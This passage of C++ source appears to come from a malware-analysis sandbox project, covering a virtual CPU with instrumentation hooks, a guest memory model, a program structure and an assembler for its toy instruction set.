  out->r2 = static_cast<Reg>(bytes[2]);
  out->imm = static_cast<int32_t>(imm);  // sign-extend relative offsets
  return true;
}

}  // namespace autovac::vm
