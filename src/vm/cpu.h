// The sandbox CPU: fetch/decode/execute loop over a Program, reporting
// every retired instruction to an observer (the instrumentation hook a
// DBI framework would give us) and trapping `sys` to a syscall handler
// (the kernel).
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <unordered_map>

#include "support/status.h"
#include "vm/isa.h"
#include "vm/memory.h"
#include "vm/program.h"

namespace autovac::vm {

// Why a run stopped.
enum class StopReason {
  kRunning = 0,
  kHalted,           // hlt retired
  kExited,           // kernel requested termination (ExitProcess etc.)
  kFault,            // memory violation / bad pc / stack overflow
  kBudgetExhausted,  // virtual-time budget spent (the paper's "1 minute")
  kCallDepthLimit,   // call stack grew past the configured depth cap
  kApiCallLimit,     // more syscalls than the configured API-call cap
  kTraceLimit,       // instruction/API trace reached its size cap
};

[[nodiscard]] const char* StopReasonName(StopReason reason);

inline constexpr size_t kNumStopReasons =
    static_cast<size_t>(StopReason::kTraceLimit) + 1;

// Coarse opcode classes for the dispatch-mix telemetry: each retired
// instruction bumps one per-class counter (a plain array increment on
// the interpreter hot path; the registry sees one bulk add per run).
enum class OpClass : uint8_t {
  kControl = 0,  // nop/hlt
  kMove,         // mov/lea
  kMemory,       // load/store (word and byte)
  kStack,        // push/pop
  kAlu,          // arithmetic, logic, shifts, inc/dec
  kCompare,      // cmp/test
  kBranch,       // jmp + conditionals
  kCallRet,      // call/ret
  kSys,          // kernel traps
  kClassCount,
};

inline constexpr size_t kNumOpClasses =
    static_cast<size_t>(OpClass::kClassCount);

[[nodiscard]] const char* OpClassName(OpClass cls);
[[nodiscard]] OpClass ClassifyOp(Op op);

// Everything observable about one retired instruction. Field semantics:
//   u1/u2      — values of r1/r2 *before* execution
//   mem_addr   — effective address when reads_mem/writes_mem
//   mem_size   — 1 or 4
//   result     — value written to the destination (reg or memory)
struct StepInfo {
  uint32_t pc = 0;
  Instruction inst;
  uint32_t u1 = 0;
  uint32_t u2 = 0;
  uint32_t mem_addr = 0;
  uint32_t mem_size = 0;
  uint32_t result = 0;
  bool branch_taken = false;
};

class Cpu;

// Architectural CPU state at an instruction boundary: everything a
// resumed run needs to continue executing as if it had run from program
// start. Flush-delta telemetry (instructions_retired, dispatch counts)
// is deliberately absent — those counters are deltas since the last
// metrics flush, not machine state, and a restored CPU starts them at
// zero so resumed runs never double-publish the prefix.
struct CpuSnapshot {
  std::array<uint32_t, kNumRegs> regs{};
  uint32_t pc = 0;
  bool zf = false;
  bool sf = false;
  uint32_t call_depth = 0;
  uint64_t cycles_used = 0;
  uint64_t api_calls = 0;
};

// Kernel interface: receives `sys` traps. Implementations read arguments
// from the stack via cpu.Arg(i) and set cpu.regs[eax] for the result.
class SyscallHandler {
 public:
  virtual ~SyscallHandler() = default;
  virtual void OnSyscall(Cpu& cpu, int64_t api_id) = 0;
};

// Instrumentation events beyond plain instruction retirement.
enum class VmEvent : uint8_t {
  // A dirtied page (guest-written since its last decode) is about to
  // execute — the write-then-execute signal a generic unpacking detector
  // keys on. Fired once per dirtied region: re-executing the same page
  // without further writes stays silent; writing it again re-arms it.
  kSelfModifyingCode = 0,
};

[[nodiscard]] const char* VmEventName(VmEvent event);

// Instrumentation interface (taint engine, instruction tracer).
class ExecutionObserver {
 public:
  virtual ~ExecutionObserver() = default;
  virtual void OnStep(const Cpu& cpu, const StepInfo& step) = 0;
  // Default no-op so existing observers need not care about VM events.
  // `addr`/`size` describe the affected region (the dirtied page for
  // kSelfModifyingCode).
  virtual void OnVmEvent(const Cpu& cpu, VmEvent event, uint32_t addr,
                         uint32_t size) {
    (void)cpu; (void)event; (void)addr; (void)size;
  }
};

// Program-counter values below this execute the static program's decoded
// `code` vector (pc = instruction index). Values at or above it are guest
// memory addresses: the CPU decodes the fixed 8-byte encoding (see
// isa.h) straight out of .data/heap, which is how multi-stage samples run
// the payloads they unpack at runtime. The threshold equals kDataBase, so
// every writable segment is executable and no static program is large
// enough to collide with it.
inline constexpr uint32_t kMemExecBase = kDataBase;

class Cpu {
 public:
  Cpu(const Program& program, Memory& memory);

  // Runs until stop or until `budget` virtual cycles are consumed.
  StopReason Run(uint64_t budget);

  // Executes one instruction. Returns kRunning while more remain.
  StopReason Step();

  // --- register file -------------------------------------------------
  [[nodiscard]] uint32_t reg(Reg r) const {
    return regs_[static_cast<size_t>(r)];
  }
  void set_reg(Reg r, uint32_t value) { regs_[static_cast<size_t>(r)] = value; }

  [[nodiscard]] uint32_t pc() const { return pc_; }
  [[nodiscard]] bool zf() const { return zf_; }
  [[nodiscard]] bool sf() const { return sf_; }

  // --- kernel conveniences --------------------------------------------
  // i-th syscall argument (32-bit, cdecl-like: arg0 at [esp]).
  [[nodiscard]] uint32_t Arg(uint32_t i) const;
  void SetResult(uint32_t value) { set_reg(Reg::kEax, value); }

  // Kernel-initiated termination (ExitProcess / TerminateProcess(self)).
  void RequestExit() { exit_requested_ = true; }

  // Deferred stop with an explicit reason, honoured after the current
  // instruction (and its observer callbacks) retire. Used by the sandbox
  // to truncate runs whose traces hit their size caps.
  void RequestStop(StopReason reason) { pending_stop_ = reason; }

  // --- execution envelope ----------------------------------------------
  // Hard caps beyond the cycle budget; 0 means unlimited. Exceeding a cap
  // stops the run with the matching StopReason instead of growing state
  // unboundedly.
  void set_call_depth_limit(uint32_t limit) { call_depth_limit_ = limit; }
  void set_api_call_limit(uint64_t limit) { api_call_limit_ = limit; }
  [[nodiscard]] uint32_t call_depth() const { return call_depth_; }
  [[nodiscard]] uint64_t api_calls() const { return api_calls_; }

  // Virtual clock: syscalls such as Sleep consume extra cycles.
  void ConsumeCycles(uint64_t cycles) { cycles_used_ += cycles; }
  [[nodiscard]] uint64_t cycles_used() const { return cycles_used_; }

  // --- telemetry -------------------------------------------------------
  [[nodiscard]] uint64_t instructions_retired() const {
    return instructions_retired_;
  }
  // kSelfModifyingCode events since the last metrics flush (flushed to
  // vm.smc_regions; like instructions_retired, a flush-delta — observers
  // wanting exact per-run counts hook OnVmEvent).
  [[nodiscard]] uint64_t smc_events() const { return smc_events_; }
  [[nodiscard]] uint64_t dispatch_count(OpClass cls) const {
    return dispatch_counts_[static_cast<size_t>(cls)];
  }
  // Publishes the per-run counters accumulated since the last flush into
  // the global metrics registry. Run() calls this on every exit; call it
  // manually only when stepping the CPU by hand.
  void FlushMetrics();

  // Return-address of the current call frame — the "caller-PC" the paper
  // logs with every API call. Valid while handling a syscall: the pc of
  // the `sys` instruction itself.
  [[nodiscard]] uint32_t current_syscall_pc() const { return current_pc_; }

  // --- checkpoint / restore -------------------------------------------
  // Captures architectural state while handling a `sys` trap, rewound so
  // that resuming from the snapshot re-executes the trapping instruction
  // from scratch: pc points at the `sys` instruction itself and the
  // charges taken at the top of Step() (one cycle, one api call) are
  // subtracted. Valid only from inside SyscallHandler::OnSyscall, before
  // the kernel consumes any extra cycles for the call.
  [[nodiscard]] CpuSnapshot SnapshotAtSyscall() const;
  // Overwrites architectural state with `snap` and clears any stop
  // condition so Run()/Step() continue from the snapshot point.
  // Flush-delta telemetry restarts at zero — the capturing run already
  // published the prefix to the global registry.
  void Restore(const CpuSnapshot& snap);

  [[nodiscard]] Memory& memory() { return memory_; }
  [[nodiscard]] const Memory& memory() const { return memory_; }
  [[nodiscard]] const Program& program() const { return program_; }

  void set_syscall_handler(SyscallHandler* handler) { syscall_ = handler; }
  void set_observer(ExecutionObserver* observer) { observer_ = observer; }

  [[nodiscard]] StopReason stop_reason() const { return stop_reason_; }
  // Human-readable fault description when stop_reason() == kFault.
  [[nodiscard]] const std::string& fault_message() const { return fault_; }

 private:
  // One decoded page of in-memory code. Pure derived state: `gen` pins
  // the Memory write generation the decode came from, so a stale entry
  // (page rewritten, or machine restored to an older snapshot) is simply
  // re-decoded. Never serialized.
  struct DecodedPage {
    uint32_t gen = 0;
    bool populated = false;
    uint32_t valid = 0;  // bit i — slot i decoded successfully
    std::array<Instruction, kCodePageSize / kEncodedInstrSize> insts{};
  };

  StopReason Fault(std::string message);
  // Fetches the instruction at pc_ (>= kMemExecBase) from guest memory,
  // firing kSelfModifyingCode and re-decoding when the page is dirty.
  // Returns false after faulting on misalignment/bounds/bad encoding.
  bool FetchFromMemory(Instruction* out);

  const Program& program_;
  Memory& memory_;
  SyscallHandler* syscall_ = nullptr;
  ExecutionObserver* observer_ = nullptr;

  std::array<uint32_t, kNumRegs> regs_{};
  uint32_t pc_ = 0;
  uint32_t current_pc_ = 0;
  bool zf_ = false;
  bool sf_ = false;
  bool exit_requested_ = false;
  StopReason pending_stop_ = StopReason::kRunning;
  uint32_t call_depth_ = 0;
  uint32_t call_depth_limit_ = 0;
  uint64_t api_calls_ = 0;
  uint64_t api_call_limit_ = 0;
  uint64_t cycles_used_ = 0;
  uint64_t instructions_retired_ = 0;
  uint64_t smc_events_ = 0;
  std::array<uint64_t, kNumOpClasses> dispatch_counts_{};
  std::unordered_map<uint32_t, DecodedPage> decode_cache_;
  StopReason stop_reason_ = StopReason::kRunning;
  std::string fault_;
};

}  // namespace autovac::vm
