#include "vm/memory.h"

#include <cstring>

namespace autovac::vm {

MemFault Memory::Read8(uint32_t addr, uint32_t* out) const {
  if (!InBounds(addr, 1)) return MemFault::kOutOfBounds;
  *out = bytes_[addr];
  return MemFault::kNone;
}

MemFault Memory::Read32(uint32_t addr, uint32_t* out) const {
  if (!InBounds(addr, 4)) return MemFault::kOutOfBounds;
  uint32_t value = 0;
  std::memcpy(&value, bytes_.data() + addr, 4);  // little-endian host
  *out = value;
  return MemFault::kNone;
}

MemFault Memory::Write8(uint32_t addr, uint32_t value) {
  if (!InBounds(addr, 1)) return MemFault::kOutOfBounds;
  if (IsReadOnly(addr)) return MemFault::kWriteToReadOnly;
  bytes_[addr] = static_cast<uint8_t>(value);
  NoteWrite(addr, 1);
  return MemFault::kNone;
}

MemFault Memory::Write32(uint32_t addr, uint32_t value) {
  if (!InBounds(addr, 4)) return MemFault::kOutOfBounds;
  if (IsReadOnly(addr) || IsReadOnly(addr + 3)) {
    return MemFault::kWriteToReadOnly;
  }
  std::memcpy(bytes_.data() + addr, &value, 4);
  NoteWrite(addr, 4);
  return MemFault::kNone;
}

void Memory::LoaderWrite(uint32_t addr, std::string_view bytes) {
  AUTOVAC_CHECK_MSG(InBounds(addr, static_cast<uint32_t>(bytes.size())),
                    "loader write out of bounds");
  std::memcpy(bytes_.data() + addr, bytes.data(), bytes.size());
}

std::string Memory::ReadCString(uint32_t addr, size_t max_len) const {
  std::string out;
  for (size_t i = 0; i < max_len; ++i) {
    uint32_t byte = 0;
    if (Read8(addr + static_cast<uint32_t>(i), &byte) != MemFault::kNone) {
      break;
    }
    if (byte == 0) break;
    out.push_back(static_cast<char>(byte));
  }
  return out;
}

uint32_t Memory::WriteCString(uint32_t addr, std::string_view text,
                              uint32_t capacity) {
  size_t len = text.size();
  if (capacity > 0 && len >= capacity) len = capacity - 1;
  uint32_t written = 0;
  for (size_t i = 0; i < len; ++i) {
    if (Write8(addr + static_cast<uint32_t>(i),
               static_cast<uint8_t>(text[i])) != MemFault::kNone) {
      return written;
    }
    ++written;
  }
  if (Write8(addr + written, 0) == MemFault::kNone) ++written;
  return written;
}

std::string_view Memory::RawView(uint32_t addr, uint32_t size) const {
  AUTOVAC_CHECK_MSG(InBounds(addr, size), "RawView out of bounds");
  return std::string_view(reinterpret_cast<const char*>(bytes_.data()) + addr,
                          size);
}

}  // namespace autovac::vm
