// A loadable program: code, initial data image, and symbol tables.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "support/status.h"
#include "vm/isa.h"
#include "vm/memory.h"

namespace autovac::vm {

// One initialized data blob placed at load time.
struct DataBlob {
  uint32_t address = 0;
  std::string bytes;
};

class Program {
 public:
  std::string name;
  std::vector<Instruction> code;
  std::vector<DataBlob> data;
  uint32_t entry = 0;
  // Free-form evasion-class tag (`.evasion` directive). The corpus
  // generators stamp the class a sample belongs to so pipeline reports
  // can break results down per class; empty for non-evasive samples.
  // Metadata only — not part of Digest().
  std::string evasion_class;

  // label -> instruction index
  std::map<std::string, uint32_t> code_symbols;
  // label -> data address
  std::map<std::string, uint32_t> data_symbols;

  // Copies the data image into `memory` (loader privileges, so .rdata can
  // be initialized).
  void LoadInto(Memory& memory) const;

  // Stable fingerprint of code+data, the repo's stand-in for the sample
  // MD5 of the paper's Table III.
  [[nodiscard]] std::string Digest() const;

  [[nodiscard]] Result<uint32_t> CodeSymbol(const std::string& label) const;
  [[nodiscard]] Result<uint32_t> DataSymbol(const std::string& label) const;
};

}  // namespace autovac::vm
