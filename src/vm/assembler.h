// Two-pass assembler for the sandbox ISA.
//
// Source grammar (one statement per line, ';' comments):
//
//   .name <identifier>          program name
//   .entry <label>              entry point (default: first instruction)
//   .rdata | .data | .text      section switch
//
// in .rdata / .data:
//   string <label> "text"       NUL-terminated bytes ("\\", "\"", "\n",
//                               "\0", "\xNN" escapes)
//   buffer <label> <size>       zero-filled reservation
//   word   <label> <v> [v...]   32-bit little-endian words
//
// in .text:
//   label:
//   mov r, r|imm       lea r, [mem]      load|loadb r, [mem]
//   store|storeb [mem], r                push r|imm        pop r
//   add|sub|xor|and|or|mul r, r|imm      shl|shr r, imm
//   not|neg|inc|dec r                    cmp|test r, r|imm
//   jmp|jz|jnz|jg|jl|jge|jle <label>     call <label>      ret
//   sys <ApiName>|imm                    hlt               nop
//
// [mem] operands: [reg], [reg+disp], [reg-disp], [label], [label+disp].
// Immediates: decimal, 0x-hex, 'c' char literals, or data labels (which
// resolve to their address).
#pragma once

#include <functional>
#include <optional>
#include <string_view>

#include "support/status.h"
#include "vm/program.h"

namespace autovac::vm {

// Resolves `sys <name>` mnemonics to API ids; supplied by the sandbox so
// the VM stays independent of the kernel's API table.
using ApiResolver =
    std::function<std::optional<int64_t>(std::string_view name)>;

[[nodiscard]] Result<Program> Assemble(std::string_view source,
                                       const ApiResolver& api_resolver = {});

}  // namespace autovac::vm
