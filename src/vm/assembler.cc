#include "vm/assembler.h"

#include <cctype>
#include <map>
#include <vector>

#include "support/strings.h"

namespace autovac::vm {
namespace {

// Symbols resolve code-label first, then data-label. Branch/call targets
// may name data labels too: jumping into a .data buffer (an address >=
// kMemExecBase) is how a sample enters code it unpacked at runtime.
struct PendingFixup {
  size_t inst_index;
  std::string symbol;   // code or data label
  int64_t addend = 0;
  int line;
};

class AssemblerImpl {
 public:
  explicit AssemblerImpl(const ApiResolver& resolver) : resolver_(resolver) {}

  Result<Program> Run(std::string_view source) {
    int line_number = 0;
    size_t pos = 0;
    while (pos <= source.size()) {
      const size_t eol = source.find('\n', pos);
      std::string_view line = source.substr(
          pos, eol == std::string_view::npos ? std::string_view::npos
                                             : eol - pos);
      ++line_number;
      if (Status s = ProcessLine(line, line_number); !s.ok()) return s;
      if (eol == std::string_view::npos) break;
      pos = eol + 1;
    }
    if (Status s = ResolveFixups(); !s.ok()) return s;
    if (!entry_label_.empty()) {
      auto entry = program_.CodeSymbol(entry_label_);
      if (!entry.ok()) {
        return Status::InvalidArgument(".entry label not defined: " +
                                       entry_label_);
      }
      program_.entry = entry.value();
    }
    return std::move(program_);
  }

 private:
  Status Error(int line, const std::string& message) {
    return Status::InvalidArgument(
        StrFormat("line %d: %s", line, message.c_str()));
  }

  Status ProcessLine(std::string_view raw, int line) {
    // Strip comments outside of string literals.
    bool in_string = false;
    size_t comment = std::string_view::npos;
    for (size_t i = 0; i < raw.size(); ++i) {
      if (raw[i] == '"' && (i == 0 || raw[i - 1] != '\\')) {
        in_string = !in_string;
      } else if (raw[i] == ';' && !in_string) {
        comment = i;
        break;
      }
    }
    std::string_view text = StripWhitespace(raw.substr(0, comment));
    if (text.empty()) return Status::Ok();

    if (text[0] == '.') return ProcessDirective(text, line);

    // Code label?
    if (text.back() == ':' && section_ == Section::kText) {
      std::string label(StripWhitespace(text.substr(0, text.size() - 1)));
      if (label.empty()) return Error(line, "empty label");
      if (program_.code_symbols.count(label) > 0) {
        return Error(line, "duplicate code label: " + label);
      }
      program_.code_symbols[label] =
          static_cast<uint32_t>(program_.code.size());
      return Status::Ok();
    }

    switch (section_) {
      case Section::kText:
        return ProcessInstruction(text, line);
      case Section::kRdata:
      case Section::kData:
        return ProcessData(text, line);
    }
    return Status::Ok();
  }

  Status ProcessDirective(std::string_view text, int line) {
    auto tokens = StrSplit(text, " \t");
    const std::string& head = tokens[0];
    if (head == ".text") {
      section_ = Section::kText;
    } else if (head == ".rdata") {
      section_ = Section::kRdata;
    } else if (head == ".data") {
      section_ = Section::kData;
    } else if (head == ".name") {
      if (tokens.size() != 2) return Error(line, ".name needs one argument");
      program_.name = tokens[1];
    } else if (head == ".entry") {
      if (tokens.size() != 2) return Error(line, ".entry needs one argument");
      entry_label_ = tokens[1];
    } else if (head == ".evasion") {
      if (tokens.size() != 2) {
        return Error(line, ".evasion needs one argument");
      }
      program_.evasion_class = tokens[1];
    } else {
      return Error(line, "unknown directive: " + head);
    }
    return Status::Ok();
  }

  // ---- data section ---------------------------------------------------
  Status ProcessData(std::string_view text, int line) {
    auto space = text.find_first_of(" \t");
    if (space == std::string_view::npos) {
      return Error(line, "malformed data statement");
    }
    const std::string kind(text.substr(0, space));
    std::string_view rest = StripWhitespace(text.substr(space));

    auto name_end = rest.find_first_of(" \t");
    if (name_end == std::string_view::npos) {
      return Error(line, "data statement needs a label and a value");
    }
    const std::string label(rest.substr(0, name_end));
    std::string_view value = StripWhitespace(rest.substr(name_end));
    if (program_.data_symbols.count(label) > 0) {
      return Error(line, "duplicate data label: " + label);
    }

    uint32_t& cursor =
        section_ == Section::kRdata ? rdata_cursor_ : data_cursor_;
    const uint32_t limit =
        section_ == Section::kRdata ? kRdataEnd : kDataEnd;

    std::string bytes;
    if (kind == "string") {
      AUTOVAC_ASSIGN_OR_RETURN(bytes, ParseStringLiteral(value, line));
      bytes.push_back('\0');
    } else if (kind == "buffer") {
      uint64_t size = 0;
      if (!ParseUint64(value, &size) || size == 0 || size > 0x10000) {
        return Error(line, "bad buffer size");
      }
      bytes.assign(size, '\0');
    } else if (kind == "word") {
      for (const std::string& token : StrSplit(value, " \t")) {
        int64_t word = 0;
        if (!ParseImmToken(token, &word)) {
          return Error(line, "bad word value: " + token);
        }
        const auto w = static_cast<uint32_t>(word);
        for (int shift = 0; shift < 32; shift += 8) {
          bytes.push_back(static_cast<char>((w >> shift) & 0xFF));
        }
      }
      if (bytes.empty()) return Error(line, "word needs at least one value");
    } else {
      return Error(line, "unknown data kind: " + kind);
    }

    // 4-byte alignment keeps word loads in bounds; buffers get 8-byte
    // alignment so unpacked code placed in them meets the memory-
    // execution mode's fetch alignment (see vm/cpu.h kMemExecBase).
    cursor = kind == "buffer" ? (cursor + 7u) & ~7u : (cursor + 3u) & ~3u;
    if (cursor + bytes.size() > limit) {
      return Error(line, "section overflow placing " + label);
    }
    program_.data_symbols[label] = cursor;
    program_.data.push_back({cursor, std::move(bytes)});
    cursor += static_cast<uint32_t>(program_.data.back().bytes.size());
    return Status::Ok();
  }

  Result<std::string> ParseStringLiteral(std::string_view text, int line) {
    if (text.size() < 2 || text.front() != '"' || text.back() != '"') {
      return Error(line, "string literal must be double-quoted");
    }
    std::string out;
    for (size_t i = 1; i + 1 < text.size(); ++i) {
      char c = text[i];
      if (c != '\\') {
        out.push_back(c);
        continue;
      }
      if (i + 2 >= text.size() + 1) return Error(line, "dangling escape");
      const char esc = text[++i];
      switch (esc) {
        case 'n': out.push_back('\n'); break;
        case 't': out.push_back('\t'); break;
        case '0': out.push_back('\0'); break;
        case '\\': out.push_back('\\'); break;
        case '"': out.push_back('"'); break;
        case 'x': {
          if (i + 2 >= text.size()) return Error(line, "bad \\x escape");
          auto hex = [](char h) -> int {
            if (h >= '0' && h <= '9') return h - '0';
            if (h >= 'a' && h <= 'f') return h - 'a' + 10;
            if (h >= 'A' && h <= 'F') return h - 'A' + 10;
            return -1;
          };
          const int hi = hex(text[i + 1]);
          const int lo = hex(text[i + 2]);
          if (hi < 0 || lo < 0) return Error(line, "bad \\x escape");
          out.push_back(static_cast<char>(hi * 16 + lo));
          i += 2;
          break;
        }
        default:
          return Error(line, StrFormat("unknown escape \\%c", esc));
      }
    }
    return out;
  }

  // ---- text section ---------------------------------------------------
  static bool ParseImmToken(std::string_view token, int64_t* out) {
    if (token.size() >= 3 && token.front() == '\'' && token.back() == '\'') {
      if (token.size() == 3) {
        *out = static_cast<unsigned char>(token[1]);
        return true;
      }
      if (token.size() == 4 && token[1] == '\\') {
        switch (token[2]) {
          case 'n': *out = '\n'; return true;
          case 't': *out = '\t'; return true;
          case '0': *out = 0; return true;
          case '\\': *out = '\\'; return true;
          default: return false;
        }
      }
      return false;
    }
    if (token.size() > 2 && (token.substr(0, 2) == "0x" ||
                             token.substr(0, 3) == "-0x")) {
      const bool neg = token[0] == '-';
      std::string_view hex = token.substr(neg ? 3 : 2);
      uint64_t value = 0;
      for (char c : hex) {
        int digit;
        if (c >= '0' && c <= '9') digit = c - '0';
        else if (c >= 'a' && c <= 'f') digit = c - 'a' + 10;
        else if (c >= 'A' && c <= 'F') digit = c - 'A' + 10;
        else return false;
        if (value > (UINT64_MAX - static_cast<uint64_t>(digit)) / 16) {
          return false;
        }
        value = value * 16 + static_cast<uint64_t>(digit);
      }
      *out = neg ? -static_cast<int64_t>(value) : static_cast<int64_t>(value);
      return true;
    }
    return ParseInt64(token, out);
  }

  static std::optional<Reg> ParseReg(std::string_view token) {
    const std::string lower = ToLower(token);
    if (lower == "eax") return Reg::kEax;
    if (lower == "ebx") return Reg::kEbx;
    if (lower == "ecx") return Reg::kEcx;
    if (lower == "edx") return Reg::kEdx;
    if (lower == "esi") return Reg::kEsi;
    if (lower == "edi") return Reg::kEdi;
    if (lower == "ebp") return Reg::kEbp;
    if (lower == "esp") return Reg::kEsp;
    return std::nullopt;
  }

  struct MemOperand {
    Reg base = Reg::kNone;
    int64_t disp = 0;
    std::string symbol;  // non-empty when the base is a data label
  };

  // Parses "[reg]", "[reg+disp]", "[reg-disp]", "[label]", "[label+disp]".
  Result<MemOperand> ParseMem(std::string_view token, int line) {
    if (token.size() < 3 || token.front() != '[' || token.back() != ']') {
      return Error(line, "expected memory operand: " + std::string(token));
    }
    std::string_view inner =
        StripWhitespace(token.substr(1, token.size() - 2));
    MemOperand mem;
    // Split at the first top-level + or - (after position 0).
    size_t split = std::string_view::npos;
    char sign = '+';
    for (size_t i = 1; i < inner.size(); ++i) {
      if (inner[i] == '+' || inner[i] == '-') {
        split = i;
        sign = inner[i];
        break;
      }
    }
    std::string_view base =
        StripWhitespace(split == std::string_view::npos
                            ? inner
                            : inner.substr(0, split));
    if (auto reg = ParseReg(base)) {
      mem.base = *reg;
    } else {
      mem.symbol = std::string(base);
    }
    if (split != std::string_view::npos) {
      std::string_view disp_text = StripWhitespace(inner.substr(split + 1));
      int64_t disp = 0;
      if (!ParseImmToken(disp_text, &disp)) {
        return Error(line, "bad displacement: " + std::string(disp_text));
      }
      mem.disp = sign == '-' ? -disp : disp;
    }
    return mem;
  }

  void Emit(Op op, Reg r1, Reg r2, int64_t imm) {
    program_.code.push_back({op, r1, r2, imm});
  }

  void EmitWithSymbol(Op op, Reg r1, Reg r2, const std::string& symbol,
                      int64_t addend, int line) {
    fixups_.push_back({program_.code.size(), symbol, addend, line});
    program_.code.push_back({op, r1, r2, 0});
  }

  Status ProcessInstruction(std::string_view text, int line) {
    // Tokenize: mnemonic, then comma-separated operands (memory operands
    // may contain '+'/'-' but not commas).
    auto space = text.find_first_of(" \t");
    const std::string mnemonic =
        ToLower(space == std::string_view::npos ? text
                                                : text.substr(0, space));
    std::vector<std::string> operands;
    if (space != std::string_view::npos) {
      for (auto& part : StrSplit(text.substr(space), ",")) {
        operands.emplace_back(StripWhitespace(part));
      }
    }
    auto want = [&](size_t n) -> Status {
      if (operands.size() != n) {
        return Error(line, StrFormat("%s expects %zu operand(s), got %zu",
                                     mnemonic.c_str(), n, operands.size()));
      }
      return Status::Ok();
    };

    // --- zero-operand forms
    if (mnemonic == "nop") { if (auto s = want(0); !s.ok()) return s; Emit(Op::kNop, Reg::kNone, Reg::kNone, 0); return Status::Ok(); }
    if (mnemonic == "hlt") { if (auto s = want(0); !s.ok()) return s; Emit(Op::kHlt, Reg::kNone, Reg::kNone, 0); return Status::Ok(); }
    if (mnemonic == "ret") { if (auto s = want(0); !s.ok()) return s; Emit(Op::kRet, Reg::kNone, Reg::kNone, 0); return Status::Ok(); }

    // --- branches
    static const std::map<std::string, Op> kBranches = {
        {"jmp", Op::kJmp}, {"jz", Op::kJz}, {"jnz", Op::kJnz},
        {"jg", Op::kJg},   {"jl", Op::kJl}, {"jge", Op::kJge},
        {"jle", Op::kJle}, {"call", Op::kCall}};
    if (auto it = kBranches.find(mnemonic); it != kBranches.end()) {
      if (auto s = want(1); !s.ok()) return s;
      int64_t imm = 0;
      if (ParseImmToken(operands[0], &imm)) {
        Emit(it->second, Reg::kNone, Reg::kNone, imm);
      } else {
        EmitWithSymbol(it->second, Reg::kNone, Reg::kNone, operands[0],
                       0, line);
      }
      return Status::Ok();
    }

    if (mnemonic == "sys") {
      if (auto s = want(1); !s.ok()) return s;
      int64_t imm = 0;
      if (!ParseImmToken(operands[0], &imm)) {
        if (!resolver_) {
          return Error(line, "no API resolver for: " + operands[0]);
        }
        auto id = resolver_(operands[0]);
        if (!id.has_value()) {
          return Error(line, "unknown API: " + operands[0]);
        }
        imm = *id;
      }
      Emit(Op::kSys, Reg::kNone, Reg::kNone, imm);
      return Status::Ok();
    }

    if (mnemonic == "push") {
      if (auto s = want(1); !s.ok()) return s;
      if (auto reg = ParseReg(operands[0])) {
        Emit(Op::kPushR, *reg, Reg::kNone, 0);
        return Status::Ok();
      }
      int64_t imm = 0;
      if (ParseImmToken(operands[0], &imm)) {
        Emit(Op::kPushI, Reg::kNone, Reg::kNone, imm);
      } else {
        EmitWithSymbol(Op::kPushI, Reg::kNone, Reg::kNone, operands[0],
                       0, line);
      }
      return Status::Ok();
    }

    if (mnemonic == "pop") {
      if (auto s = want(1); !s.ok()) return s;
      auto reg = ParseReg(operands[0]);
      if (!reg) return Error(line, "pop needs a register");
      Emit(Op::kPopR, *reg, Reg::kNone, 0);
      return Status::Ok();
    }

    // --- unary register ops
    static const std::map<std::string, Op> kUnary = {
        {"not", Op::kNotR}, {"neg", Op::kNegR},
        {"inc", Op::kIncR}, {"dec", Op::kDecR}};
    if (auto it = kUnary.find(mnemonic); it != kUnary.end()) {
      if (auto s = want(1); !s.ok()) return s;
      auto reg = ParseReg(operands[0]);
      if (!reg) return Error(line, mnemonic + " needs a register");
      Emit(it->second, *reg, Reg::kNone, 0);
      return Status::Ok();
    }

    // --- loads/stores/lea
    if (mnemonic == "load" || mnemonic == "loadb" || mnemonic == "lea") {
      if (auto s = want(2); !s.ok()) return s;
      auto reg = ParseReg(operands[0]);
      if (!reg) return Error(line, mnemonic + " destination must be register");
      AUTOVAC_ASSIGN_OR_RETURN(const auto mem, ParseMem(operands[1], line));
      const Op op = mnemonic == "load" ? Op::kLoad
                    : mnemonic == "loadb" ? Op::kLoadB
                                          : Op::kLea;
      if (mem.symbol.empty()) {
        Emit(op, *reg, mem.base, mem.disp);
      } else {
        EmitWithSymbol(op, *reg, Reg::kNone, mem.symbol, mem.disp, line);
      }
      return Status::Ok();
    }
    if (mnemonic == "store" || mnemonic == "storeb") {
      if (auto s = want(2); !s.ok()) return s;
      AUTOVAC_ASSIGN_OR_RETURN(const auto mem, ParseMem(operands[0], line));
      auto reg = ParseReg(operands[1]);
      if (!reg) return Error(line, mnemonic + " source must be register");
      const Op op = mnemonic == "store" ? Op::kStore : Op::kStoreB;
      if (mem.symbol.empty()) {
        Emit(op, mem.base, *reg, mem.disp);
      } else {
        EmitWithSymbol(op, Reg::kNone, *reg, mem.symbol, mem.disp, line);
      }
      return Status::Ok();
    }

    // --- two-operand ALU / mov / cmp / test
    struct BinOp {
      Op rr;
      Op ri;
    };
    static const std::map<std::string, BinOp> kBinary = {
        {"mov", {Op::kMovRR, Op::kMovRI}},
        {"add", {Op::kAddRR, Op::kAddRI}},
        {"sub", {Op::kSubRR, Op::kSubRI}},
        {"xor", {Op::kXorRR, Op::kXorRI}},
        {"and", {Op::kAndRR, Op::kAndRI}},
        {"or", {Op::kOrRR, Op::kOrRI}},
        {"mul", {Op::kMulRR, Op::kMulRI}},
        {"cmp", {Op::kCmpRR, Op::kCmpRI}},
        {"test", {Op::kTestRR, Op::kTestRI}},
        {"shl", {Op::kOpCount, Op::kShlRI}},
        {"shr", {Op::kOpCount, Op::kShrRI}}};
    if (auto it = kBinary.find(mnemonic); it != kBinary.end()) {
      if (auto s = want(2); !s.ok()) return s;
      auto dst = ParseReg(operands[0]);
      if (!dst) return Error(line, mnemonic + " destination must be register");
      if (auto src = ParseReg(operands[1])) {
        if (it->second.rr == Op::kOpCount) {
          return Error(line, mnemonic + " requires an immediate operand");
        }
        Emit(it->second.rr, *dst, *src, 0);
        return Status::Ok();
      }
      int64_t imm = 0;
      if (ParseImmToken(operands[1], &imm)) {
        Emit(it->second.ri, *dst, Reg::kNone, imm);
      } else {
        EmitWithSymbol(it->second.ri, *dst, Reg::kNone, operands[1],
                       0, line);
      }
      return Status::Ok();
    }

    return Error(line, "unknown mnemonic: " + mnemonic);
  }

  Status ResolveFixups() {
    for (const PendingFixup& fixup : fixups_) {
      int64_t value = 0;
      if (auto code = program_.CodeSymbol(fixup.symbol); code.ok()) {
        value = code.value();
      } else {
        auto data = program_.DataSymbol(fixup.symbol);
        if (!data.ok()) {
          return Status::InvalidArgument(
